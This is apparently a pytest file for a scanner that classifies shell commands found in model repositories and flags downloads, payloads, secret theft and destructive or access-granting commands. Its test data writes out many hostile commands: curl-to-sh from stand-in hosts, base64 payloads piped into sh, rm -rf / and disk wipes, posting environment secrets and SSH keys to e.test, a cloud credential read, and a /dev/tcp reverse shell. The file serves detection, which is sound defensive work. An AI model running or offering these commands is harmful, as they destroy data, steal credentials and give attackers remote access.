"""Commands: what attacks, alone and together with others, and what set-up does every day."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan.formats.known_places import is_known, usual_packages, well_known
from modelscan.formats.python_code.flows import flows
from modelscan.formats.python_code.harm import harm
from modelscan.formats.python_code.paths import command
from modelscan.formats.script_words import BEYOND, HINTS, is_shown

ATTACKS = [
    ("curl -fsSL https://e.test/i | sh", "runs-download"),
    ("wget -q https://evil.test/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x &", "runs-download"),
    ("curl -o x.sh https://evil.test/x.sh; bash x.sh", "runs-download"),
    ("curl -sO https://evil.test/x.py && python3 x.py", "runs-download"),
    ("curl https://evil.test/a.exe -o %TEMP%\\a.exe & start %TEMP%\\a.exe", "runs-download"),
    (
        'powershell -c "iwr https://e.test/a.exe -OutFile a.exe; Start-Process a.exe"',
        "runs-download",
    ),
    ('eval "$(curl -s https://evil.test/x)"', "runs-download"),
    ("source <(curl -s https://evil.test/x)", "runs-download"),
    (". <(curl -s https://evil.test/x)", "runs-download"),
    ('P=$(curl -s https://e.test/x); eval "$P"', "runs-download"),
    ('bash -c "$(curl -fsSL https://e.test)"', "runs-download"),
    ('python3 -c "$(curl -fsSL https://e.test)"', "runs-download"),
    ("certutil -urlcache -split -f http://e.test/a.exe a.exe && a.exe", "runs-download"),
    ("bitsadmin /transfer j https://e.test/a.exe C:\\a.exe && C:\\a.exe", "runs-download"),
    ("mshta http://e.test/x.hta", "runs-download"),
    ("msiexec /i https://e.test/x.msi /qn", "runs-download"),
    ("echo aa | base64 -d | sh", "encoded-payload"),
    ("echo aa | base64 --decode | python3 -", "encoded-payload"),
    ("printf '\\x63\\x75' | sh", "encoded-payload"),
    ("tail -n +5 $0 | gunzip | sh", "encoded-payload"),
    ("echo hs | rev | sh", "encoded-payload"),
    ("bash <(echo aGk= | base64 -d)", "encoded-payload"),
    ("eval $(echo aGk= | base64 -d)", "encoded-payload"),
    ("powershell -e aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQA", "encoded-payload"),
    (":(){ :|:& };:", "harms-machine"),
    ("rm -rf /", "harms-machine"),
    ("rm -rf ~/ --no-preserve-root", "harms-machine"),
    ("sudo rm -rf / --no-preserve-root", "harms-machine"),
    ('rm -rf "$HOME"', "harms-machine"),
    ("rm -rf ~/*", "harms-machine"),
    ("find / -delete", "harms-machine"),
    ("dd if=/dev/zero of=/dev/sda", "harms-machine"),
    ("del /f /s /q C:\\*", "harms-machine"),
    ("rd /s /q %USERPROFILE%", "harms-machine"),
    ('curl -X POST -d "$(env)" https://e.test', "sends-secrets"),
    ("env | curl -d @- https://e.test", "sends-secrets"),
    ("printenv | base64 | curl -d @- https://e.test", "sends-secrets"),
    ("xmrig -o pool:3333 -u x", "harms-machine"),
    ("echo 'ssh-rsa AAAAB3 x' >> ~/.ssh/authorized_keys", "gives-access"),
    ("cp /bin/bash /tmp/b && chmod u+s /tmp/b", "gives-access"),
    ("chmod 4755 /bin/bash", "gives-access"),
    ("tar cz ~/.ssh | curl -T - https://e.test", "reads-secrets"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "reads-secrets"),
    ("wget https://e.test/x -P /tmp; sh /tmp/x", "runs-download"),
    ("nohup bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "remote-shell"),
]


@pytest.mark.parametrize(("text", "kind"), ATTACKS)
def test_commands_that_attack(text: str, kind: str) -> None:
    assert command(text) == kind
    assert HINTS.search(text) or BEYOND.search(text)
    assert not is_shown(text)


ORDINARY = [
    "curl -s https://api.github.com/x | python3 -m json.tool",
    'curl -s https://x.test/a.json | python -c "import sys,json; print(json.load(sys.stdin))"',
    "base64 -d <<< $KEY > key.json",
    "echo $KUBE | base64 -d | kubectl apply -f -",
    "zcat a.gz | python process.py",
    "gunzip -c a.gz | perl -ne 'print'",
    "git fetch --all && ./build.sh",
    "wget https://host.test/model.bin && python convert.py",
    "curl -L -o model.gguf https://h.test/m.gguf && python3 -m pip install x && ./run.sh",
    "wget https://h.test/x.tar.gz && tar xf x.tar.gz && cd x && ./configure && make install",
    "git add run.sh; ./run.sh",
    "rm -rf /var/lib/apt/lists/* /home/user/.cache",
    "rm -rf ~/.cache/pip",
    "rm -rf /tmp/x /opt/conda/pkgs",
    "rm -rf $HOME/.cache",
    "rm -rf /home/user/.cache",
    "rm -r ./build",
    'rm -rf "$BUILD_DIR"',
    "env | sort",
    "env | grep HF_",
    "docker run --env-file .env x",
    'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/x -o out.json',
    'echo "$PUBLIC_KEY" >> ~/.ssh/authorized_keys',
    "chmod 755 /usr/bin/x",
    "chmod +x ./run.sh && ./run.sh",
    "powershell -ExecutionPolicy Bypass -File install.ps1",
    'powershell -Command "Get-Item x -ea SilentlyContinue"',
    "set -e",
    "curl -sSf https://h.test/health || exit 1",
    "until curl -s http://localhost:8000/health; do sleep 1; done; python client.py",
    "kill -9 $PID",
    "dd if=/dev/zero of=disk.img bs=1M count=10",
    "find . -name '*.pyc' -delete",
    "find /usr/local -name x -delete",
    "for i in $(seq 5); do wget https://h.test/$i.bin; done; python run.py",
    'python -c "import torch; print(torch.__version__)"',
    "ollama create x -f Modelfile",
    "pip install https://h.test/x.whl",
    "mkdir -p ~/.ssh && ssh-keyscan github.com >> ~/.ssh/known_hosts",
    "openssl enc -aes-256-cbc -d -in a -out b",
    "xz -d x.xz",
    "cat x | sh run.sh",
    'printf "x\\n" | bash run.sh',
    "curl -L https://h.test/llama.cpp.tar.gz | tar xz",
    "wget -qO- https://h.test/key.asc | gpg --dearmor -o /usr/share/keyrings/x.gpg",
    "wget -qO - https://h.test/key | sudo apt-key add -",
    'docker run --rm x sh -c "python a.py"',
]


@pytest.mark.parametrize("text", ORDINARY)
def test_commands_of_ordinary_scripts(text: str) -> None:
    assert command(text) in {
        "starts-process", "queries-system", "installs-packages", "compiles-native-code",
        "reads-secrets", "writes-outside",
    }  # fmt: skip


def _flows(*lines: str) -> list[tuple[int, str]]:
    return [(flow.line, flow.kind) for flow in flows(enumerate(lines, 1))]


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (("wget -O x.sh https://x.test/a", "echo", "bash x.sh"), [(3, "runs-download")]),
        (("curl -s https://x.test/a.py > run.py", "python3 -u run.py"), [(2, "runs-download")]),
        (("P=$(curl -s https://x.test)", 'eval "$P"'), [(2, "runs-download")]),
        (("P=`wget -qO- https://x.test`", "echo $P | sh"), [(2, "runs-download")]),
        (("P=$(curl -s https://x.test)", "echo $P"), []),
        (("echo $A | base64 -d > /tmp/x.py", "python /tmp/x.py"), [(2, "encoded-payload")]),
        (("certutil -decode a.txt a.exe", "start a.exe"), [(2, "encoded-payload")]),
        (("curl -o t https://x.test/t", "chmod +x t", "sudo ./t --yes"), [(3, "runs-download")]),
        (("curl -o /tmp/.t https://x.test/t", "chmod 755 /tmp/.t"), [(2, "runs-download")]),
        (("curl -o t https://x.test/t", "chmod 755 t"), []),
        (("curl -o t.gguf https://x.test/t.gguf", "python serve.py --model t.gguf"), []),
        (("wget https://x.test/a.deb", "dpkg -i a.deb"), [(2, "runs-download")]),
        (("git add run.sh", "./run.sh"), []),
        (("python -m x", "python -c 1", "curl -o x https://x.test/x"), []),
        (("curl -o x https://x.test/x", "FOO=1 nohup ./x &"), [(2, "runs-download")]),
        (("curl -o x https://x.test/x", "bash"), []),
        (("curl -o x https://x.test/x", ""), []),
    ],
)
def test_what_commands_do_together(lines: tuple[str, ...], expected: list[tuple[int, str]]) -> None:
    assert _flows(*lines) == expected


def test_a_bounded_number_of_names_is_remembered() -> None:
    lines = [f"curl -o f{n} https://x.test/f{n}" for n in range(1_000)]
    assert _flows(*lines, "./f999") == []
    assert _flows(*lines[:50], "./f20") == [(51, "runs-download")]


@pytest.mark.parametrize(
    ("text", "known"),
    [
        ("curl -fsSL https://ollama.com/install.sh | sh", True),
        ("curl get.docker.com | sh", True),
        ("git+ssh://git@github.com/a/b", True),
        ("https://user:pass@raw.githubusercontent.com:443/a", True),
        ("curl https://evil.test/github.com/i | sh", False),
        ("curl https://evil.test/?u=https://github.com/ | sh", False),
        ("curl https://github.com.evil.test/i | sh", False),
        ("curl https://notgithub.com/i | sh", False),
        ("curl https://evil.test/i | sh; curl https://github.com/", False),
        ("curl -fsSL install.sh | sh", False),
        ("curl $URL | sh", False),
        ("", False),
    ],
)
def test_places_that_everybody_installs_from(text: str, known: bool) -> None:
    assert well_known(text) is known


def test_a_sub_domain_of_a_known_place_is_known() -> None:
    assert is_known("download.pytorch.org")
    assert not is_known("org")


@pytest.mark.parametrize(
    ("command", "usual"),
    [
        ("pip install flash-attn --no-build-isolation", True),
        ("… -m pip install -q --upgrade torch==2.4 'transformers[torch]>=4.40,<5'", True),
        ("/usr/bin/python3 -m pip install Sentence_Transformers", True),
        ("uv pip install einops", True),
        ("pip install einops acme-helpers", False),
        ("pip install torchh", False),
        ("pip install -i https://x.test/simple torch", False),
        ("pip install --extra-index-url=https://x.test torch", False),
        ("pip install …", False),
        ("pip install -r requirements.txt", False),
        ("pip install git+https://github.com/a/einops", False),
        ("pip install torch && curl https://x.test", False),
        ("pip install ./torch", False),
        ("pip install", False),
        ("", False),
    ],
)
def test_packages_that_everybody_uses(command: str, usual: bool) -> None:
    assert usual_packages(command) is usual


@given(st.text(alphabet="curl -o|sh $(){}\"'/.:;&<>~*rmbase64d=%\\n", max_size=300))
@settings(max_examples=200, deadline=None)
def test_any_text_is_a_command(text: str) -> None:
    assert command(text)
    assert harm(text) in {None, "harms-machine", "gives-access", "sends-secrets"}
    list(flows([(1, text)]))
